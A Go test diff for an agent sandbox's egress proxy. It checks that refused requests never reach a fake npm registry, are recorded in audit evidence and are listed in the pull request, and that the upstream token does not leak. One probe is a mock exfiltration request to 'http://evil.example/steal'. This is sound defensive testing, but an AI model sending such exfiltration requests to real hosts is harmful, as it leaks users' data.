@@ -3,6 +3,7 @@ package app_test
 import (
 	"context"
 	"encoding/json"
+	"reflect"
 	"strings"
 	"testing"
 
@@ -26,36 +27,48 @@ const ask = (method, path) => new Promise(done => {
 `
 
 // Everything the egress refuses is refused before it reaches the upstream,
-// recorded in the evidence, and listed in the pull request: npm publish's
-// PUT in setup, a request to another host, a path outside npm's protocol,
-// and a registry request from the agent, whose phase the server does not
-// open.
-func TestRealSessionRefusalsAreRecordedAndReachNoUpstream(t *testing.T) {
+// recorded in the evidence, and listed in the pull request, on both
+// executors: npm publish's PUT in setup, a request to another host, a path
+// outside npm's protocol, a registry request from the agent, whose phase
+// the server does not open, and requests the repository's own
+// `registries:` narrowed away (decision 0021): to a registry it turned off,
+// and to one it kept to setup, from verify.
+func TestRealSessionRegistryRefusalsAreRecordedAndReachNoUpstream(t *testing.T) {
+	forEachExecutor(t, testRegistryRefusals)
+}
+
+func testRegistryRefusals(t *testing.T, executor string) {
 	const token = "npm-upstream-token-0123456789"
 	up := fakenpm.Serve(t, fakenpm.WithToken(token, "inspect"))
 	if _, err := up.Add(fakenpm.Version{Name: "left-pad", Version: "1.3.0", Files: map[string]string{"index.js": "module.exports = 1\n"}}); err != nil {
 		t.Fatal(err)
 	}
-	setupProbes := `[["GET","http://evil.example/steal"],["GET","/v1/registries/npmjs/-/whoami"]]`
+	setupProbes := `[["GET","http://evil.example/steal"],["GET","/v1/registries/npmjs/-/whoami"],["GET","/v1/registries/spare/left-pad"]]`
 	agentProbes := `[["GET","/v1/registries/npmjs/left-pad"]]`
+	verifyProbes := `[["GET","/v1/registries/npmjs/left-pad"]]`
 	files := map[string]string{
 		"package.json":     `{"name": "widgets", "version": "1.0.0"}` + "\n",
 		"scripts/probe.js": probeJS,
 		".github/inspect.yml": "agent:\n" +
 			"  preset: command\n" +
 			"  command: [\"sh\", \"-c\", \"node scripts/probe.js \\\"$1\\\" && echo 'looked at it' > NOTES.md\", \"agent\", '" + agentProbes + "']\n" +
+			// The server opens all three to setup and verify.
+			"registries:\n  npmjs: {phases: [setup]}\n  spare: {off: true}\n" +
 			"setup:\n" +
 			// npm asks for a token before it publishes; a made-up one,
 			// which the egress never passes on.
 			"  - name: publish\n    run: [sh, -c, \"echo //127.0.0.1:8931/v1/registries/npmjs/:_authToken=made-up > /tmp/npmrc && npm publish --userconfig /tmp/npmrc --ignore-scripts || true\"]\n" +
 			"  - name: probes\n    run: [node, scripts/probe.js, '" + setupProbes + "']\n" +
-			"verify:\n  - name: check\n    run: [\"true\"]\n",
+			// npmmirror stays open to verify, so verify runs under the
+			// forwarder, which refuses npmjs there.
+			"verify:\n  - name: probes\n    run: [node, scripts/probe.js, '" + verifyProbes + "']\n",
 	}
-	h, lx := newSandboxHarness(t, func(c *config.Server) {
-		c.Egress.Registries = map[string]config.Registry{"npmjs": {Kind: "npm", URL: up.URL(), Token: token}}
+	r := newRealSessions(t, executor, func(c *config.Server) {
+		npm := config.Registry{Kind: "npm", URL: up.URL(), Token: token}
+		c.Egress.Registries = map[string]config.Registry{"npmjs": npm, "npmmirror": npm, "spare": npm}
 	})
 	before := len(up.Requests())
-	sess := h.runSession(lx, files, "/inspect take notes")
+	sess := r.run(files, "/inspect take notes")
 	// npm publish reads the packument first (a read, relayed); its PUT
 	// and every probe are refused on the way.
 	for _, q := range up.Requests()[before:] {
@@ -63,9 +76,21 @@ func TestRealSessionRefusalsAreRecordedAndReachNoUpstream(t *testing.T) {
 			t.Fatalf("reached the upstream: %s %s (%s)", q.Method, q.Path, q.Route)
 		}
 	}
-	a, err := h.st.GetAttempt(context.Background(), sess.AttemptID)
+	a, err := r.st.GetAttempt(context.Background(), sess.AttemptID)
 	if err != nil {
 		t.Fatal(err)
+	}
+	// The spec carries the registries as the repository narrowed them.
+	var spec contract.Spec
+	if err := json.Unmarshal([]byte(a.Spec), &spec); err != nil {
+		t.Fatal(err)
+	}
+	wantRegs := []contract.Registry{
+		{Name: "npmjs", Kind: "npm", Phases: []contract.Phase{contract.PhaseSetup}},
+		{Name: "npmmirror", Kind: "npm", Phases: []contract.Phase{contract.PhaseSetup, contract.PhaseVerify}},
+	}
+	if !reflect.DeepEqual(spec.Registries, wantRegs) {
+		t.Errorf("the spec's registries = %+v, want %+v", spec.Registries, wantRegs)
 	}
 	var res contract.ResultUpload
 	if err := json.Unmarshal([]byte(a.Result), &res); err != nil || res.Evidence.Egress == nil {
@@ -73,29 +98,31 @@ func TestRealSessionRefusalsAreRecordedAndReachNoUpstream(t *testing.T) {
 	}
 	audit := res.Evidence.Egress
 	want := []struct {
-		method, path string
-		phase        contract.Phase
+		method, upstream, path string
+		phase                  contract.Phase
 	}{
-		{"PUT", "widgets", contract.PhaseSetup}, // npm publish
-		{"GET", "http://evil.example/steal", contract.PhaseSetup},
-		{"GET", "-/whoami", contract.PhaseSetup},
-		{"GET", "left-pad", contract.PhaseAgent},
+		{"PUT", "npmjs", "widgets", contract.PhaseSetup}, // npm publish
+		{"GET", "", "http://evil.example/steal", contract.PhaseSetup},
+		{"GET", "npmjs", "-/whoami", contract.PhaseSetup},
+		{"GET", "spare", "left-pad", contract.PhaseSetup},
+		{"GET", "npmjs", "left-pad", contract.PhaseAgent},
+		{"GET", "npmjs", "left-pad", contract.PhaseVerify},
 	}
 	for _, w := range want {
 		found := false
 		for _, r := range audit.Refused {
-			if r.Method == w.method && strings.HasSuffix(r.Path, w.path) && r.Phase == w.phase {
+			if r.Method == w.method && r.Upstream == w.upstream && strings.HasSuffix(r.Path, w.path) && r.Phase == w.phase {
 				found = true
 			}
 		}
 		if !found {
-			t.Errorf("no refusal of %s %s in %s recorded; refused: %+v", w.method, w.path, w.phase, audit.Refused)
+			t.Errorf("no refusal of %s %s %s in %s recorded; refused: %+v", w.method, w.upstream, w.path, w.phase, audit.Refused)
 		}
 	}
 	if audit.RefusedCount < len(want) || audit.Registry.Requests != len(up.Requests())-before {
 		t.Errorf("audit counts %d refused, %d relayed; want ≥ %d refused and %d relayed", audit.RefusedCount, audit.Registry.Requests, len(want), len(up.Requests())-before)
 	}
-	pr, _, err := h.client(t).PullRequests.Get(context.Background(), owner, repoName, sess.PRNumber)
+	pr, _, err := r.client(t).PullRequests.Get(context.Background(), owner, repoName, sess.PRNumber)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -105,7 +132,7 @@ func TestRealSessionRefusalsAreRecordedAndReachNoUpstream(t *testing.T) {
 			t.Errorf("the PR body does not list %q:\n%s", s, body)
 		}
 	}
-	if strings.Contains(body, token) || strings.Contains(h.logs.String(), token) {
+	if strings.Contains(body, token) || strings.Contains(r.allLogs(), token) {
 		t.Fatal("the upstream's token leaked")
 	}
 }
